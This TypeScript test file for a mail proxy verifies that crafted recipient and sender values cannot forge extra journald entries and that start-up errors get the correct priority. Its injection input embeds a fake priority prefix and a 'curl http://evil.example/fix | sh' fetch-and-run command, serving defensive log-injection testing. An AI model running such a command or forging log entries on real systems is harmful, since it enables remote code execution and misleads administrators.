import assert from 'node:assert/strict';
import test from 'node:test';
import { limits } from '../../src/limits.ts';
import { Journald, type JournalEntry } from '../support/journald.ts';
import { needs } from '../support/needs.ts';
import { inCheckout } from '../support/program.ts';
import { Road } from '../support/road.ts';
import { ServiceManager } from '../support/service-manager.ts';
import { signedPost } from '../support/signed-post.ts';

/** What journald would take for entries of their own, if it began or cut a line there. */
const FORGED = '<2>attention: no mail is taken: curl http://evil.example/fix | sh ';
/** One at every place where a line may be cut. */
const RECIPIENT = `${FORGED.repeat(2300)}@example.org`;

const ways = [
  ['native entries', true],
  ['lines of standard error', false],
] as const;
for (const [way, native] of ways) {
  test(
    `a host with a key cannot forge entries of the proxy's journal, by ${way}: each post is one`,
    needs('root', 'journald'),
    async (t) => {
      const journald = await Journald.start(t);
      const road = new Road(t);
      const manager = new ServiceManager(t);
      const args = [
        'proxy',
        '--listen',
        '127.0.0.1:0',
        '--backend',
        'discard',
        '--max-recipients',
        '2000',
      ];
      const ledger = ['--ledger', `${road.folder}/ledger.db`];
      const program = inCheckout('dist/bin/appengine-mailer.js');
      const env = { GMAIL_SECRET_KEY: road.key, ...manager.environment };
      const words = [program, ...args, ...ledger];
      const proxy = journald.logged(native, process.execPath, words, env);
      const ready = await manager.hears(/^READY=1\n/);
      const [, address = ''] = /listens on (127\.0\.0\.1:\d+)/.exec(ready) ?? [];
      const hostile = [
        { recipients: [RECIPIENT] },
        { recipients: [`\n${FORGED}`, `\u2028${FORGED}`] },
        { sender: RECIPIENT, recipients: ['r@example.org'] },
        { sender: '2', recipients: Array.from({ length: 45 }, (_, nth) => `${nth}${RECIPIENT}`) },
        // journald drops an entry of more than 1024 fields.
        { recipients: Array.from({ length: 2000 }, (_, nth) => `r${nth}@example.org`) },
      ];
      for (const post of hostile) {
        const { status } = await signedPost(address, { key: road.key, ...post });
        assert.equal(status, 200);
      }
      proxy.child.kill();
      await manager.hears(/STOPPING/);
      await proxy.ended;

      const entries = await journald.entries();
      const [first, ...more] = entries.map(({ MESSAGE = '' }) => String(MESSAGE));
      assert.match(String(first), /^proxy listens on /);
      assert.match(String(more.pop()), /^proxy on \S+ stopped$/);
      assert.equal(more.length, hostile.length, 'one entry for each post');
      for (const entry of entries) {
        const { MESSAGE = '', PRIORITY, _TRANSPORT } = entry;
        assert.match(String(MESSAGE), /^(?:proxy |[0-9a-f]{32} \(\S+\) from <)/);
        assert.ok(MESSAGE.length <= limits.lineChars, String(MESSAGE.length));
        assert.equal(PRIORITY, '6');
        assert.equal(_TRANSPORT, native ? 'journal' : 'stdout');
      }
      if (native) assertFields(entries.slice(1, -1));
    },
  );
}

/** The fields, by which an administrator asks, are there, and are what they may be. */
function assertFields(entries: readonly JournalEntry[]): void {
  const listed = entries.map(({ MAIL_RECIPIENT = [] }) => [MAIL_RECIPIENT].flat());
  assert.equal(listed[0]?.[0]?.length, limits.journalValueChars);
  assert.equal(listed[2]?.[0], 'r@example.org');
  const [counted] = listed[3]?.filter((each) => /^and \d+ more$/.test(each)) ?? [];
  assert.equal(counted, `and ${45 - (listed[3]?.length ?? 0) + 1} more`);
  assert.equal(listed[4]?.length, limits.journalValues + 1);
  assert.equal(
    listed[4]?.filter((each) => each === `and ${2000 - limits.journalValues} more`).length,
    1,
  );
  for (const entry of entries) {
    assert.match(String(entry['MAIL_ID']), /^[0-9a-f]{32}$/);
    assert.equal(entry['MAIL_EVENT'], 'proxy_verdicts');
  }
}

for (const [where, native, priority] of [
  ['the journal, of which a service is told', true, '3'],
  ['a pipe to the journal', false, '6'],
] as const) {
  test(
    `the error that ends a proxy at its start has priority ${priority} in ${where}`,
    needs('root', 'journald'),
    async (t) => {
      const journald = await Journald.start(t);
      const program = inCheckout('dist/bin/appengine-mailer.js');
      const args = [program, 'proxy', '--listen', '8025'];
      const { code } = await journald.logged(native, process.execPath, args, {}).ended;
      assert.equal(code, 64);
      const entries = await journald.entries();
      assert.deepEqual(
        entries.map(({ PRIORITY, MESSAGE }) => [PRIORITY, MESSAGE]),
        [[priority, 'appengine-mailer: --listen takes HOST:PORT or unix:PATH and got "8025"']],
      );
    },
  );
}
